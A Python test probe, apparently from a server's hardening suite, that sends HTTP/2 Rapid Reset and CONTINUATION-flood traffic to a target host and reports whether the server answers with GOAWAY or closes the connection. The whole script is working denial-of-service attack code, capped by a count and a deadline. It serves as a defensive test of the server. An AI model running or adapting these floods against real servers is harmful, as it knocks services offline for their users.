"""HTTP/2 abuse probes for meshgate's tests (hardening.md section 5). Needs Debian python3-h2
(/usr/bin/python3). Every loop is bounded by a count and by a deadline.

usage: h2attack.py rapidreset HOST PORT N
       h2attack.py continuation HOST PORT N
Prints one JSON line: {"sent": n, "goaway": bool, "error_code": int|null, "closed": bool}
"""
import json
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
from hyperframe.frame import ContinuationFrame, HeadersFrame


def main():
    mode, host, port, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    deadline = time.time() + 10
    sock = socket.create_connection((host, port), timeout=2)
    sock.setblocking(False)
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    result = {"sent": 0, "goaway": False, "error_code": None, "closed": False}
    headers = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "h2.test")]

    def pump():
        try:
            data = sock.recv(65536)
        except BlockingIOError:
            return
        except (ConnectionResetError, OSError):
            result["closed"] = True
            return
        if not data:
            result["closed"] = True
            return
        try:
            for ev in conn.receive_data(data):
                if isinstance(ev, h2.events.ConnectionTerminated) and not result["goaway"]:
                    result["goaway"] = True
                    result["error_code"] = int(ev.error_code)
        except h2.exceptions.ProtocolError:
            result["closed"] = True
        try:
            pending = conn.data_to_send()
            if pending:
                sock.sendall(pending)
        except (BlockingIOError, OSError):
            pass

    if mode == "rapidreset":
        for i in range(n):
            if result["goaway"] or result["closed"] or time.time() > deadline:
                break
            sid = conn.get_next_available_stream_id()
            try:
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid, error_code=8)
                sock.sendall(conn.data_to_send())
            except (h2.exceptions.ProtocolError, BlockingIOError, OSError):
                break
            result["sent"] += 1
            pump()
    elif mode == "continuation":
        sid = 1
        block = conn.encoder.encode(headers)
        frame = HeadersFrame(sid)
        frame.data = block
        sock.sendall(frame.serialize())
        for i in range(n):
            if result["goaway"] or result["closed"] or time.time() > deadline:
                break
            cont = ContinuationFrame(sid)
            cont.data = conn.encoder.encode([("x-pad-%d" % i, "a" * 1000)])
            try:
                sock.sendall(cont.serialize())
            except (BlockingIOError, OSError):
                time.sleep(0.01)
                continue
            result["sent"] += 1
            pump()
    end = time.time() + 2
    while time.time() < min(end, deadline + 2) and not (result["goaway"] or result["closed"]):
        pump()
        time.sleep(0.01)
    print(json.dumps(result))


main()
